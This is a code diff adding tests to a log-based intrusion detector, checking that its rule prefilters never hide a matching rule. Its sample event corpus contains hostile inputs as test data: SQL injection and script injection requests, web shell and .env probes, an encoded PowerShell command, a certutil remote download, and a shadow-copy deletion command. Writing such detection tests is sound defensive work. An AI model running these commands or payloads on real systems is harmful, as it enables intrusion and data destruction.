@@ -884,3 +884,55 @@ def test_probing_and_large_or_dump_downloads(detector, request_line, status, siz
 def test_ordinary_downloads_are_quiet(detector):
     line = '10.0.0.9 - - [12/Mar/2024:18:05:06 +0000] "GET /downloads/app-1.2.zip HTTP/1.1" 200 52428800 "-" "curl/8.4.0"'
     assert detector.scan([access(line)]) == []
+
+
+# --- dispatch: the prefilters never hide a rule that would match ---------------------------------
+
+
+def test_overlapping_substrings_each_reach_their_rules(tmp_path):
+    path = _write(tmp_path, "\n".join(f"""
+- id: needle-{i}
+  title: needle {n}
+  level: low
+  category: benign
+  formats: [syslog]
+  match:
+    message|contains: "{n}"
+""" for i, n in enumerate(("abc", "abcd", "bcd", "cd e", "d", "zz"))))
+    signals = Detector(load_rules([path])).scan([syslog("Mar 10 07:17:01 h1 app[1]: xxabcd efg")])
+    assert fired(signals) == {f"needle-{i}" for i in range(5)}
+
+
+class _NoPrefilter:
+    """Every rule of the format is tried on every event: the reference the dispatch must equal."""
+
+    def __init__(self, rules):
+        self.rules = rules
+
+    def candidates(self, view):
+        return [r for r in self.rules if not r.formats or view.event.format in r.formats]
+
+
+def _corpus() -> list[Event]:
+    events = ssh_lines(FAILED, 7) + ssh_lines("Accepted password for root from 173.234.31.186 port 1 ssh2", 1, start=8)
+    events += [web(r, status=404, line_no=i) for i, r in enumerate([
+        "GET /?id=1%27%20or%201=1-- HTTP/1.1", "GET /c99.php HTTP/1.1", "GET /?q=<script>x</script> HTTP/1.1",
+        "GET /.env HTTP/1.1", "GET /index.html HTTP/1.1", "GET /a;id HTTP/1.1"], 20)]
+    events += [sysmon1(c, "C:\\x.exe", i) for i, c in enumerate([
+        "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA=", "certutil -urlcache -f http://x/a a",
+        "cmd.exe /c dir", "vssadmin delete shadows /all"], 40)]
+    events += [failed_logon(i) for i in range(50, 62)]
+    events += [syslog(line, 70 + i) for i, line in enumerate([
+        "Mar 10 07:05:00 web1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/sbin/visudo",
+        "Mar 10 08:00:00 db1 kernel: [1.2] Kernel panic - not syncing: Fatal exception",
+        "Mar 10 07:17:01 web1 CRON[6204]: (root) CMD (   cd / && run-parts --report /etc/cron.hourly)"])]
+    return events
+
+
+def test_prefiltered_dispatch_gives_the_same_signals_as_trying_every_rule(rules):
+    fast = Detector(rules)
+    slow = Detector(rules)
+    slow._dispatch = lambda fmt: _NoPrefilter(rules)
+    signals = fast.scan(_corpus())
+    assert signals == slow.scan(_corpus())
+    assert len(fired(signals)) >= 12  # the corpus exercises many rules, so the equality means something
